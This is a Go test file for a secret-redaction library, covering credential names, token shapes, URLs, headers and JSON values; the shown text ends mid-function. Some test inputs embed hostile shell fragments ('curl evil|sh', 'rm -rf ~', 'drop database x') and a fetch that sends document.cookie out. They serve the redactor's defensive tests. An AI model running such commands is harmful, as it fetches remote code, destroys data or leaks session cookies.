package textfmt

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/permgen/permgen/runtime/value"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSecretName(t *testing.T) {
	credentials := []string{
		"token", "auth_token", "accessToken", "refresh_token", "id_token", "bearerToken", "x-api-key",
		"api_key", "apiKey", "APIKEY", "ApiKey", "X-API-Key", "openai_api_key", "secret", "client_secret",
		"clientSecret", "webhookSecret", "password", "passwd", "db_password", "DB_PASSWORD", "new_password",
		"passphrase", "Authorization", "authorization", "Proxy-Authorization", "cookie", "Cookie",
		"Set-Cookie", "cookies", "private_key", "privateKey", "ssh_private_key", "access_key",
		"aws_secret_access_key", "AWS_SECRET_ACCESS_KEY", "secret_key", "secretKey", "credentials",
		"credential", "aws_credentials", "session_token", "sessionToken", "x-auth-token", "X-Auth-Token",
		"GITHUB_TOKEN", "authtoken", "AUTHTOKEN", "accesstoken", "hf_token", "csrf_token", "oauth2Token",
		"token2", "token_2", "api.key", "auth token", "pat", "github_pat", "bearer", "secrets", "passwords",
		"api_keys", "client_key", "signing_key", "encryption_key", "master_key", "session_key",
		"Ocp-Apim-Subscription-Key", "X-Amz-Security-Token", "X-Amz-Credential", "secret_value",
		"secretValue", "secret_string", "SecretString", "SecretBinary", "password_confirmation",
		"passwordConfirm", "api_key_value", "token.value", "headers.Authorization", "DB_PASS", "smtp_pass",
		"redisPass", "MYSQL_ROOT_PASS", "admin_pass",
	}
	for _, name := range credentials {
		assert.True(t, SecretName(name), "%s means a credential", name)
	}
	notCredentials := []string{
		"", "_", "2", "max_tokens", "maxTokens", "tokens", "token_count", "tokenCount", "num_tokens",
		"tokenizer", "token_limit", "prompt_tokens", "input_tokens", "max_token", "maxtoken", "total_token",
		"next_token", "nextToken", "NextToken", "nextPageToken", "page_token", "pageToken",
		"continuation_token", "sync_token", "token_type", "token_url", "token_endpoint", "password_policy",
		"passwordPolicy", "password_file", "password_hash", "secret_name", "secretName", "secret_id",
		"secretId", "secretArn", "SecretArn", "secret_ref", "key", "keys", "Key", "primary_key",
		"primaryKey", "public_key", "publicKey", "foreign_key", "sort_key", "idempotency_key", "monkey",
		"hotkey", "author", "authority", "authors", "cookie_name", "cookieName", "cookie_domain",
		"credential_id", "private_key_id", "access_key_id", "client_id", "pwd", "pass", "pin", "auth",
		"session", "session_id", "sid", "signature", "sig", "path", "value", "string", "data", "b64",
		"compat", "spat", "broken", "content", "secretary", "tokenize", "passwordless", "first_pass",
		"test_pass", "bypass", "compass",
	}
	for _, name := range notCredentials {
		assert.False(t, SecretName(name), "%s does not mean a credential", name)
	}
}

func TestSecretNameAllocatesNothing(t *testing.T) {
	names := []string{"aws_secret_access_key", "nextPageToken", "Ocp-Apim-Subscription-Key", "ſecret_válue"}
	n := testing.AllocsPerRun(100, func() {
		for _, name := range names {
			SecretName(name)
		}
	})
	assert.Zero(t, n)
}

func TestSecretPlaceholder(t *testing.T) {
	assert.Equal(t, "‹secret, 0 characters›", SecretPlaceholder(0))
	assert.Equal(t, "‹secret, 1 character›", SecretPlaceholder(1))
	assert.Equal(t, "‹secret, 40 characters›", SecretPlaceholder(40))
	for _, n := range []int{0, 1, 2, 40, 123456} {
		p := SecretPlaceholder(n)
		assert.True(t, isPlaceholder(p), p)
		assert.False(t, isPlaceholder(p[:len(p)-1]), p)
	}
	assert.False(t, isPlaceholder("‹secret, characters›"))
	assert.False(t, isPlaceholder("‹secret, 4 characters"))
}

// Credentials of each shape, for the tests.
var (
	ghp     = "ghp_" + strings.Repeat("aB3", 12)
	pat     = "github_pat_" + strings.Repeat("A1_", 10)
	slack   = "xoxb-1234567890-abcdefGHIJ"
	openai  = "sk-proj-" + strings.Repeat("Ab1", 10)
	akia    = "AKIAIOSFODNN7EXAMPLE"
	asia    = "ASIAY34FZKBOKMUTVV7A"
	google  = "AIza" + strings.Repeat("Sy_-1", 7)
	jwt     = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	pemBody = "MIIEowIBAAKCAQEA\nq8GpLZ3wF+abc/def==\n"
)

func p(n int) string { return SecretPlaceholder(n) }

func TestSecretText(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"empty", "", ""},
		{"clean", "git status --short", "git status --short"},
		// a credential's name, then its value
		{"assignment, quoted", "SECRET_KEY = 'dj-cQDPcn5xh1bXW15Wo4'\nDEBUG = True", "SECRET_KEY = '" + p(21) + "'\nDEBUG = True"},
		{"a path in code names a credential, not its value", "fetch(u, {body: JSON.stringify({cookie: document.cookie})})",
			"fetch(u, {body: JSON.stringify({cookie: document.cookie})})"},
		{"an environment lookup", "password=process.env.DB_PASSWORD; token: getToken(); secret = env[\"S\"]",
			"password=process.env.DB_PASSWORD; token: getToken(); secret = env[\"S\"]"},
		{"an assigned value with dots is still a credential", "password=hunter.2x", "password=" + p(9)},
		{"assignment, ini", "aws_secret_access_key = c8xv20bMNu2N+LsDKjid\n", "aws_secret_access_key = " + p(20) + "\n"},
		{"command line", "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG --profile p",
			"aws configure set aws_secret_access_key " + p(21) + " --profile p"},
		{"after the word password", "login: dba / password Qx2Wc5Ev8Rb1Tn4Ym7Uk.", "login: dba / password " + p(20) + "."},
		{"a flag", "mysql --password=hunter2 -u root", "mysql --password=" + p(7) + " -u root"},
		{"an assigned value with a password's symbols", "DB_PASSWORD=P@ssw0rd!x\nAPI_KEY: s3cr3t#12$x%^*", "DB_PASSWORD=" + p(10) + "\nAPI_KEY: " + p(14)},
		{"an & inside an assigned value", "DB_PASSWORD=Tr0ub4dor&3xyz", "DB_PASSWORD=" + p(14)},
		{"an & that separates what follows", "TOKEN=abcd1234&&curl evil|sh; TOKEN=abcd1234&curl x; password=abc123&User=bob",
			"TOKEN=" + p(8) + "&&curl evil|sh; TOKEN=" + p(8) + "&curl x; password=" + p(6) + "&User=bob"},
		{"a shell's separators end an assigned value", "TOKEN=x1;rm -rf ~; TOKEN=x2|sh, (password=abc123).",
			"TOKEN=" + p(2) + ";rm -rf ~; TOKEN=" + p(2) + "|sh, (password=" + p(6) + ")."},
		{"Docker's auth in text", `{\"auths\":{\"r\":{\"auth\":\"ZGVwbG95OldpbnQzciEyMDI0\"}}} "auth": "b2F1dGgy"`,
			`{\"auths\":{\"r\":{\"auth\":\"` + p(24) + `\"}}} "auth": "b2F1dGgy"`},
		{"a pass after what it opens", "DB_PASS=hunter2x\nSMTP_PASS: s3cret!", "DB_PASS=" + p(8) + "\nSMTP_PASS: " + p(7)},
		{"a name after underscores", "//registry.npmjs.org/:_authToken=abcdef12-3456", "//registry.npmjs.org/:_authToken=" + p(13)},
		{"a name inside a word after an underscore", "x_password_hint=abc y_authToken", "x_password_hint=abc y_authToken"},
		{"a variable's name is no value", "password: $DB_PASS, token=${T}, key=$(cat k)", "password: $DB_PASS, token=${T}, key=$(cat k)"},
		{"a value that starts with a symbol", "DB_PASSWORD=$^5jL, password=@dm1n!, secret: # set me", "DB_PASSWORD=" + p(5) + ", password=" + p(6) + ", secret: # set me"},
		{"a dotted run with a password's symbols is no path in code", "DB_PASSWORD=lMN2g.V*elxo", "DB_PASSWORD=" + p(12)},
		{"prose after a name", "update the password policy and the token limit", "update the password policy and the token limit"},
		{"a value of nothing but a sentence's marks", "PAT:: password=.?: token=?:", "PAT:: password=.?: token=?:"},
		{"a count after a name", "max_tokens = 100, tokens: 20", "max_tokens = 100, tokens: 20"},
		{"a short word after a name", "secret santa", "secret santa"},
		{"a plural names kinds", "(hidden credentials: 'token')", "(hidden credentials: 'token')"},
		{"linear api key", "key lin_api_Qw3Er5Ty7Ui9Op1As3Df5Gh7Jk9Lz2Xc4Vb", "key " + p(43)},
		{"a credential a formatter already hid", "https://…@ci.example/?private_token=…", "https://…@ci.example/?private_token=…"},
		{"a name that says no credential is needed", "deploy ALL=(ALL) NOPASSWD:ALL, no_password: true", "deploy ALL=(ALL) NOPASSWD:ALL, no_password: true"},
		{"a redacted value followed by a formatter's punctuation", "x?password=" + p(10) + ", body {}", "x?password=" + p(10) + ", body {}"},
		{"a redacted value followed by more of a value", "x?password=" + p(10) + "xy, body", "x?password=" + p(26) + " body"},
		{"a quoted pair with escaped quotes", `{\"password\": \"hunter22\", \"user\": \"bob\"}`, `{\"password\": \"` + p(8) + `\", \"user\": \"bob\"}`},
		{"a quoted pair cut before its closing quote", `{"password": "hunter22…`, `{"password": "` + p(9)},
		{"a variable as two pairs", `--container-definitions '[{"environment":[{"name":"DB_PASSWORD","value":"uCPQaMoXPw24"}]}]'`,
			`--container-definitions '[{"environment":[{"name":"DB_PASSWORD","value":"` + p(12) + `"}]}]'`},
		{"a tag as two pairs", `{"Key": "api_key", "Value": "k3y-v4lue"}`, `{"Key": "api_key", "Value": "` + p(9) + `"}`},
		{"a variable as two pairs, escaped and cut", `"{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"uCPQa\\\"Mo…`,
			`"{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"` + p(12)},
		{"a variable whose name means no credential", `{"name": "LOG_LEVEL", "value": "debug"}`, `{"name": "LOG_LEVEL", "value": "debug"}`},
		{"an escaped quote in a variable's value", `{"name": "DB_PASSWORD", "value": "a\"b c", "x": 1}`, `{"name": "DB_PASSWORD", "value": "` + p(6) + `", "x": 1}`},

		// shapes
		{"github token", "export GH=" + ghp, "export GH=" + p(40)},
		{"github token of each kind", "gho_" + ghp[4:] + " ghu_" + ghp[4:] + " ghs_" + ghp[4:] + " ghr_" + ghp[4:],
			p(40) + " " + p(40) + " " + p(40) + " " + p(40)},
		{"github token too short", "ghp_abc", "ghp_abc"},
		{"github token inside a word", "xghp_" + ghp[4:], "xghp_" + ghp[4:]},
		{"github token after an underscore", "MY_" + ghp, "MY_" + p(40)},
		{"fine-grained github token", pat + " x", p(41) + " x"},
		{"github_pat_ too short", "github_pat_abc", "github_pat_abc"},
		{"gitlab token", "glpat-" + strings.Repeat("x1", 10), p(26)},
		{"slack token", "token " + slack + ".", "token " + p(26) + "."},
		{"slack look-alike", "xoxb-short", "xoxb-short"},
		{"openai project key", "key: " + openai, "key: " + p(38)},
		{"openai legacy key", "sk-" + strings.Repeat("T3", 24), p(51)},
		{"anthropic key", "sk-ant-api03-" + strings.Repeat("Zz9", 30), p(103)},
		{"sk- in task-runner", "task-runner and disk-usage", "task-runner and disk-usage"},
		{"sk- of a kebab-case word", "sk-some-long-kebab-case-identifier", "sk-some-long-kebab-case-identifier"},
		{"sk- too short", "sk-Abc123", "sk-Abc123"},
		{"stripe key", "sk_live_" + strings.Repeat("4eC3", 6), p(32)},
		{"stripe restricted key", "rk_test_" + strings.Repeat("4eC3", 6), p(32)},
		{"aws access key id", "id " + akia + " ok", "id " + p(20) + " ok"},
		{"aws temporary key id", asia, p(20)},
		{"aws look-alike too long", akia + "X", akia + "X"},
		{"aws look-alike too short", "AKIA1234", "AKIA1234"},
		{"aws inside a word", "XAKIAIOSFODNN7EXAMPLE", "XAKIAIOSFODNN7EXAMPLE"},
		{"google api key", "?q=1&key=" + google, "?q=1&key=" + p(39)},
		{"npm token", "npm_" + strings.Repeat("a1", 18), p(40)},
		{"hugging face token", "hf_" + strings.Repeat("Ab", 17), p(37)},
		{"jwt", "id=" + jwt + ";", "id=" + p(len(jwt)) + ";"},
		{"jwt without a signature", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", p(36)},
		{"not a jwt", "eyJhbGciOiJub25lIn0 and more", "eyJhbGciOiJub25lIn0 and more"},
		{"pem private key", "-----BEGIN RSA PRIVATE KEY-----\n" + pemBody + "-----END RSA PRIVATE KEY-----\nrest",
			"-----BEGIN RSA PRIVATE KEY-----\n" + p(len(pemBody)-1) + "\n-----END RSA PRIVATE KEY-----\nrest"},
		{"openssh private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----",
			"-----BEGIN OPENSSH PRIVATE KEY-----\n" + p(6) + "\n-----END OPENSSH PRIVATE KEY-----"},
		{"pgp private key block", "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOY\n-----END PGP PRIVATE KEY BLOCK-----",
			"-----BEGIN PGP PRIVATE KEY BLOCK-----\n" + p(4) + "\n-----END PGP PRIVATE KEY BLOCK-----"},
		{"unterminated pem key", "-----BEGIN PRIVATE KEY-----\nMIIE\nabcd\n", "-----BEGIN PRIVATE KEY-----\n" + p(9) + "\n"},
		{"escaped pem key", `-----BEGIN EC PRIVATE KEY-----\nMHcC\n-----END EC PRIVATE KEY-----`,
			`-----BEGIN EC PRIVATE KEY-----` + p(8) + `-----END EC PRIVATE KEY-----`},
		{"certificate", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"},
		{"public key", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----"},

		// URLs
		{"url password", "https://deploy:hunter22@ci.example.com/builds", "https://deploy:" + p(8) + "@ci.example.com/builds"},
		{"url password of another scheme", "postgres://app:s3cret@db:5432/main", "postgres://app:" + p(6) + "@db:5432/main"},
		{"url password with @", "https://u:p@ss@host/", "https://u:" + p(4) + "@host/"},
		{"url user alone in https", "git clone https://" + ghp + "@github.com/a/b", "git clone https://" + p(40) + "@github.com/a/b"},
		{"url user alone in http", "http://tok3n@host", "http://" + p(5) + "@host"},
		{"url user alone in ssh", "ssh://git@github.com/a/b", "ssh://git@github.com/a/b"},
		{"url user shaped like a token", "https://" + ghp + ":x-oauth-basic@github.com", "https://" + p(40) + ":" + p(13) + "@github.com"},
		{"url empty password", "https://user:@host", "https://user:@host"},
		{"url without userinfo", "https://example.com/a@b", "https://example.com/a@b"},
		{"url at in the path", "https://example.com/@user", "https://example.com/@user"},
		{"url at in the query", "https://example.com/?to=a@b.c", "https://example.com/?to=a@b.c"},
		{"url with backslash", `https://evil.example\@github.com/`, `https://evil.example\@github.com/`},
		{"url in prose", "see https://u:pw@h.example, then", "see https://u:" + p(2) + "@h.example, then"},
		{"query access token", "https://api.example.com/x?access_token=" + strings.Repeat("a", 40) + "&x=1",
			"https://api.example.com/x?access_token=" + p(40) + "&x=1"},
		{"query parameters", "/cb?code=42&state=abc&client_secret=xyz#frag", "/cb?code=42&state=abc&client_secret=" + p(3) + "#frag"},
		{"query api key", "?apiKey=abc def", "?apiKey=" + p(3) + " def"},
		{"query token", "?token=abc", "?token=" + p(3)},
		{"query password", "?user=bob&password=hunter2", "?user=bob&password=" + p(7)},
		{"query signature", "?sv=2021&sig=AbC%2Bd&se=2025", "?sv=2021&sig=" + p(7) + "&se=2025"},
		{"query aws signature", "?X-Amz-Credential=AKID%2F2024&X-Amz-Signature=abcdef",
			"?X-Amz-Credential=" + p(11) + "&X-Amz-Signature=" + p(6)},
		{"query percent-encoded name", "?access%5Ftoken=abc", "?access%5Ftoken=" + p(3)},
		{"query html escaped", "?a=1&amp;token=abc", "?a=1&amp;token=" + p(3)},
		{"query look-alikes", "?max_tokens=100&page_token=p2&key=k", "?max_tokens=100&page_token=p2&key=k"},
		{"query empty value", "?token=&x=1", "?token=&x=1"},
		{"form body", "grant_type=client_credentials&client_secret=s3&scope=a", "grant_type=client_credentials&client_secret=" + p(2) + "&scope=a"},
		{"query value in quotes", `curl "https://x/?token=abc" -o f`, `curl "https://x/?token=` + p(3) + `" -o f`},

		// headers
		{"bearer", "curl -H 'Authorization: Bearer abc.def' https://x", "curl -H 'Authorization: Bearer " + p(7) + "' https://x"},
		{"basic", "Authorization: Basic dXNlcjpwYXNz\r\nHost: x", "Authorization: Basic " + p(12) + "\r\nHost: x"},
		{"token scheme", "authorization: token " + ghp, "authorization: token " + p(40)},
		{"proxy authorization", "Proxy-Authorization: Bearer t0k", "Proxy-Authorization: Bearer " + p(3)},
		{"digest", "Authorization: Digest username=\"a\", response=\"b\"\nHost: x", "Authorization: Digest " + p(26) + "\nHost: x"},
		{"digest in a quoted header", `-H "Authorization: Digest a=1, b=2" -v`, `-H "Authorization: Digest ` + p(8) + `" -v`},
		{"no scheme", "Authorization: abc123, then", "Authorization: " + p(6) + ", then"},
		{"authorization as a word", "Authorization is required", "Authorization is required"},
		{"authorization inside a word", "preauthorization: x", "preauthorization: x"},
		{"bearer alone", `"Bearer abcdef0123456789xyz"`, `"Bearer ` + p(19) + `"`},
		{"bearer alone too short or without digits", "Bearer tokens are strings", "Bearer tokens are strings"},

		// quoted pairs
		{"json pair", `{"password": "hunter2", "user": "bob"}`, `{"password": "` + p(7) + `", "user": "bob"}`},
		{"json pair compact", `{"api_key":"k-1"}`, `{"api_key":"` + p(3) + `"}`},
		{"json pair with escapes", `{"token":"a\"b"}`, `{"token":"` + p(4) + `"}`},
		{"python dict", `{'client_secret': 'xyz'}`, `{'client_secret': '` + p(3) + `'}`},
		{"json pair authorization", `{"Authorization": "Bearer x"}`, `{"Authorization": "` + p(8) + `"}`},
		{"json pair unterminated", `{"secret": "abc`, `{"secret": "` + p(3)},
		{"json pair look-alike", `{"max_tokens": "100", "secret_name": "db"}`, `{"max_tokens": "100", "secret_name": "db"}`},
		{"json pair not a string", `{"password": 1234}`, `{"password": 1234}`},

		// placeholders are left as they are
		{"placeholder", "token: " + p(40), "token: " + p(40)},
		{"placeholder in a query", "?token=" + p(3) + "&x=1", "?token=" + p(3) + "&x=1"},
		{"placeholder and more in a query", "?token=ab" + p(3), "?token=" + p(2+utf8.RuneCountInString(p(3)))},
		{"non-ASCII around", "日本 " + akia + " 語", "日本 " + p(20) + " 語"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := SecretText(tc.in)
			assert.Equal(t, tc.want, got)
			assert.Equal(t, got, SecretText(got), "redacting again changes nothing")
			assert.Nil(t, SecretShape(got), "no credential is left")
			if got == tc.in {
				assert.Nil(t, SecretShape(tc.in))
			}
		})
	}
}

func TestRedactField(t *testing.T) {
	for _, tc := range []struct{ name, text, want string }{
		{"password", "hunter2", p(7)},
		{"X-API-Key", "k-123", p(5)},
		{"Authorization", "Bearer abc", p(10)},
		{"token", "", ""},
		{"token", p(3), p(3)},
		{"max_tokens", "4096", "4096"},
		{"secret_name", "prod-db", "prod-db"},
		{"url", "https://u:pw@host", "https://u:" + p(2) + "@host"},
		{"note", akia, p(20)},
	} {
		assert.Equal(t, tc.want, RedactField(tc.name, tc.text), "%s: %s", tc.name, tc.text)
	}
}

func TestSecretShapeSpans(t *testing.T) {
	s := "a " + akia + " b https://u:pw@h?token=t c"
	spans := SecretShape(s)
	var got []string
	for _, sp := range spans {
		got = append(got, s[sp.Start:sp.End])
	}
	assert.Equal(t, []string{akia, "pw", "t"}, got)
	assert.Nil(t, SecretShape("nothing to see here: https://example.com/?q=1"))
}

// TestSecretTextAllocatesNothingOnCleanText: text without credentials is
// returned as it is, URLs, JSON, headers and look-alikes included.
func TestSecretTextAllocatesNothingOnCleanText(t *testing.T) {
	clean := []string{
		"", "git status", cleanText(4096),
		`{"path": "/src/app.go", "max_tokens": 100, "secret_name": "db"}`,
		"https://example.com/a/b?q=1&page_token=2#x",
		"task-runner sk-short AKIA1234 eyJhbGciOiJub25lIn0 Authorization is required",
		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
		"token: " + p(40), "?a%5Fb=1&c%2Dd=2",
	}
	for _, s := range clean {
		require.Nil(t, SecretShape(s), s)
		n := testing.AllocsPerRun(20, func() {
			if got := SecretText(s); got != s {
				t.Fatal("changed")
			}
		})
		assert.Zero(t, n, "%.40q", s)
	}
}

// TestSecretTextGrowth: the placeholder of a credential of one character
// is 25 bytes, so text made of the shortest credentials grows five times,
// the growth the language's cost estimate assumes for redact.
func TestSecretTextGrowth(t *testing.T) {
	worst := strings.Repeat("&sig=x", 100)
	got := SecretText(worst)
	assert.Equal(t, 5*len(worst), len(got))
	for _, s := range []string{strings.Repeat("a://:x@", 100), strings.Repeat("&pat=x", 100), strings.Repeat(`"pat":"x"`, 100)} {
		assert.LessOrEqual(t, len(SecretText(s)), 5*len(s), s[:20])
	}
}

// hostileSecretTexts are texts built to make a scanner look again and
// again at the same characters (attempts that start inside one run of a
// shape's characters). A quadratic scan of one of them would take minutes:
// BenchmarkSecretTextHostile measures them, since a test may not assert a
// time on a busy machine.
func hostileSecretTexts() []string {
	const size = 1 << 20
	fill := func(unit string) string { return strings.Repeat(unit, size/len(unit)) }
	return []string{
		fill("sk-"), fill("sk-a"), fill("github_pat_"), fill("glpat-"), fill("xoxb-"), fill("eyJ-"),
		fill("eyJ-") + ".eyJaaaaaaaaaaa!", fill("eyJaaaaaaaa.") + "!", fill("a://"), fill("https://a:"),
		fill("://@"), fill(`"`), fill(`"a`), fill(`"token":`), fill("?"), fill("&token"), fill("-----BEGIN "),
		fill("-----BEGIN PRIVATE KEY-----"), fill("Authorization:"), fill("Authorization "), fill("Bearer "),
		fill("ghp_"), fill("AKIA"), fill(" "), fill("‹secret, "), fill("‹secret, 1 character›"),
		fill("https://u:p@h "), fill(akia + " "),
		fill(`{"name":"DB_PASSWORD",`), fill(`"name": "api_key", "value": `), fill(`\"key\":\"`), fill(`\\"name\":\"`),
		fill("mysql "), fill("mysql -p"), fill("mysql '"), fill("htpasswd -b "), fill("curl -u a:"), fill(`login -p "`),
	}
}

// TestSecretTextHostile: on the hostile texts, redacting is idempotent and
// leaves no credential shape behind.
func TestSecretTextHostile(t *testing.T) {
	for _, s := range hostileSecretTexts() {
		got := SecretText(s)
		assert.Equal(t, got, SecretText(got), "%.30q", s)
		assert.Empty(t, SecretShape(got), "%.30q", s)
	}
}

func BenchmarkSecretTextHostile(b *testing.B) {
	for i, s := range hostileSecretTexts() {
		b.Run(strconv.Itoa(i), func(b *testing.B) {
			b.SetBytes(int64(len(s)))
			for b.Loop() {
				SecretText(s)
			}
		})
	}
}

func cleanText(n int) string {
	const words = "the quick brown fox jumps over the lazy dog: see https://example.com/docs?page=2 and /src/app.go, " +
		`{"max_tokens": 100} task-runner sk-learn AKIA eyJ ask-me `
	return strings.Repeat(words, n/len(words)+1)[:n]
}

func dirtyText(n int) string {
	unit := cleanText(200) + " curl -H 'Authorization: Bearer " + ghp + "' https://u:hunter22@h.example/?access_token=" + akia + " "
	return strings.Repeat(unit, n/len(unit)+1)[:n]
}

func BenchmarkSecretText(b *testing.B) {
	for _, size := range []int{1 << 10, 1 << 20} {
		for _, kind := range []struct {
			name string
			text func(int) string
		}{{"clean", cleanText}, {"dirty", dirtyText}} {
			s := kind.text(size)
			b.Run(fmt.Sprintf("%s/%dKiB", kind.name, size>>10), func(b *testing.B) {
				b.SetBytes(int64(len(s)))
				b.ReportAllocs()
				for b.Loop() {
					SecretText(s)
				}
			})
		}
	}
}

func obj(t testing.TB, js string) any {
	t.Helper()
	v, err := value.DecodeJSON([]byte(js))
	require.NoError(t, err)
	return v
}

func TestRedactValue(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"secret names", `{"path":"/a","token":"abc","api_key":"k-123","max_tokens":100}`,
			`{"path":"/a","token":"` + p(3) + `","api_key":"` + p(5) + `","max_tokens":100}`},
		{"header map", `{"url":"https://x","headers":{"Authorization":"Bearer abc","Accept":"*/*","Cookie":"sid=1"}}`,
			`{"url":"https://x","headers":{"Authorization":"` + p(10) + `","Accept":"*/*","Cookie":"` + p(5) + `"}}`},
		{"nested", `{"a":[{"b":{"client_secret":"s3cr3t"}}]}`, `{"a":[{"b":{"client_secret":"` + p(6) + `"}}]}`},
		{"object under a secret name", `{"credentials":{"type":"service_account","private_key":"pk","n":12,"ok":true,"x":null}}`,
			`{"credentials":{"type":"` + p(15) + `","private_key":"` + p(2) + `","n":"` + p(2) + `","ok":true,"x":null}}`},
		{"list under a secret name", `{"api_keys":["a1","b22",["c333"]]}`, `{"api_keys":["` + p(2) + `","` + p(3) + `",["` + p(4) + `"]]}`},
		{"number under a secret name", `{"pin":1,"password":12345,"token":1.50}`, `{"pin":1,"password":"` + p(5) + `","token":"` + p(4) + `"}`},
		{"booleans and null stay", `{"password":true,"secret":null,"token":""}`, `{"password":true,"secret":null,"token":""}`},
		{"sensitive value", `{"name":"db","sensitive":true,"value":"hunter2"}`, `{"name":"db","sensitive":true,"value":"` + p(7) + `"}`},
		{"sensitive object value", `{"sensitive":true,"value":{"a":"bc"}}`, `{"sensitive":true,"value":{"a":"` + p(2) + `"}}`},
		{"not sensitive", `{"sensitive":false,"value":"v"}`, `{"sensitive":false,"value":"v"}`},
		{"the value of a named secret, and its name shown", `{"vault":"kv","secret":"db-password","value":"Tg7Hn2Jk"}`,
			`{"vault":"kv","secret":"db-password","value":"` + p(8) + `"}`},
		{"a secret with no value beside it", `{"url":"https://h","secret":"whsec-9f8e7d"}`, `{"url":"https://h","secret":"` + p(12) + `"}`},
		{"sensitive as a string", `{"sensitive":"true","value":"v"}`, `{"sensitive":"true","value":"v"}`},
		{"name-value pairs", `{"env":[{"name":"DB_PASSWORD","value":"pw"},{"name":"PORT","value":"80"}]}`,
			`{"env":[{"name":"DB_PASSWORD","value":"` + p(2) + `"},{"name":"PORT","value":"80"}]}`},
		{"key-value pairs", `[{"Key":"api_key","Value":"k"},{"key":"primary_key","value":"id"}]`,
			`[{"Key":"api_key","Value":"` + p(1) + `"},{"key":"primary_key","value":"id"}]`},
		{"har headers", `{"headers":[{"name":"Authorization","value":"Basic eA=="}]}`,
			`{"headers":[{"name":"Authorization","value":"` + p(10) + `"}]}`},
		{"names of secrets are shown", `{"secret_name":"prod-db","secretArn":"arn:x","SecretString":"{}"}`,
			`{"secret_name":"prod-db","secretArn":"arn:x","SecretString":"` + p(2) + `"}`},
		{"shapes in other strings", `{"cmd":"curl https://u:pw@h","note":"` + akia + `"}`,
			`{"cmd":"curl https://u:` + p(2) + `@h","note":"` + p(20) + `"}`},
		{"shapes in keys", `{"` + akia + `":1}`, `{"` + p(20) + `":1}`},
		{"a string", `"` + ghp + `"`, `"` + p(40) + `"`},
		{"placeholders stay", `{"token":"` + p(3) + `"}`, `{"token":"` + p(3) + `"}`},
		{"user and password in base64 under auth", `{"auths":{"r.example":{"auth":"ZGVwbG95OldpbnQzciEyMDI0"}},"auth":"oauth2","x":{"auth":"c3RhdHVz"}}`,
			`{"auths":{"r.example":{"auth":"` + p(24) + `"}},"auth":"oauth2","x":{"auth":"c3RhdHVz"}}`},
		{"pass and pwd beside a user", `{"user":"admin","pass":"Hunter2x!"}`, `{"user":"admin","pass":"` + p(9) + `"}`},
		{"pwd beside a login", `{"login":"bob","pwd":"Hunter2x!"}`, `{"login":"bob","pwd":"` + p(9) + `"}`},
		{"pass and pwd alone", `{"pwd":"/home/dev","pass":3,"tests":{"pass":"all"}}`, `{"pwd":"/home/dev","pass":3,"tests":{"pass":"all"}}`},
		{"an argument vector's credential flags", `{"args":["--db-password","Hunter2x!","--api-token","tok_9a8b7c6d","--verbose"]}`,
			`{"args":["--db-password","` + p(9) + `","--api-token","` + p(12) + `","--verbose"]}`},
		{"a flag without its value", `["--password-stdin","bob","--password","-v","--token","$TOKEN"]`, `["--password-stdin","bob","--password","-v","--token","$TOKEN"]`},
		{"a program's argument vector", `{"command":["mysql","-uroot","-pS3cret!x","-e","drop database x"]}`,
			`{"command":["mysql","-uroot","-p` + p(8) + `","-e","drop database x"]}`},
		{"a login's argument vector", `["docker","login","-u","bob","-p","pass word|x"]`, `["docker","login","-u","bob","-p","` + p(11) + `"]`},
		{"a curl argument vector", `["/usr/bin/curl","-u","admin:pw1","https://x"]`, `["/usr/bin/curl","-u","admin:` + p(3) + `","https://x"]`},
		{"login alone is no program", `["login","-p","8080"]`, `["login","-p","8080"]`},
		{"a list that is no argument vector", `["mysql",1,"-pX"]`, `["mysql",1,"-pX"]`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := obj(t, tc.in)
			got := RedactValue(v)
			assert.Equal(t, tc.want, CompactJSON(got))
			assert.Equal(t, CompactJSON(got), CompactJSON(RedactValue(got)), "redacting again changes nothing")
			assert.Equal(t, tc.in, CompactJSON(v), "the input is not modified")
		})
	}
}

// TestRedactValueKeepsCleanValues: a value without credentials is returned
// as it is, without a copy or an allocation; a value with one copies only
// the way to it.
func TestRedactValueKeepsCleanValues(t *testing.T) {
	v := obj(t, `{"path":"/src/app.go","max_tokens":100,"secret_name":"db","list":[1,"two",{"k":true}],`+
		`"headers":{"Accept":"*/*"},"url":"https://example.com/?page_token=x","sensitive":false,"value":"v"}`)
	got := RedactValue(v)
	assert.Same(t, v.(*value.Object), got.(*value.Object))
	assert.Zero(t, testing.AllocsPerRun(20, func() { RedactValue(v) }))

	w := obj(t, `{"kept":{"a":[1,2]},"changed":{"token":"t"}}`).(*value.Object)
	r := RedactValue(w).(*value.Object)
	kept, _ := w.Get("kept")
	rkept, _ := r.Get("kept")
	assert.Same(t, kept.(*value.Object), rkept.(*value.Object), "what holds no credential is shared")
	assert.Equal(t, 1.5, RedactValue(1.5))
	assert.Equal(t, p(3), CompactJSON(RedactValue(value.ObjectOf([]string{"token"}, []any{1.5})))[len(`{"token":"`):len(`{"token":"`)+len(p(3))])
}

// TestRedactValueDepth: decoded input nests at most value.MaxDepth deep,
// which bounds the recursion; a value built in Go that nests deeper is cut
// there.
func TestRedactValueDepth(t *testing.T) {
	deep := strings.Repeat("[", value.MaxDepth) + `{"token":"abc"}` + strings.Repeat("]", value.MaxDepth)
	_, err := value.DecodeJSON([]byte(deep))
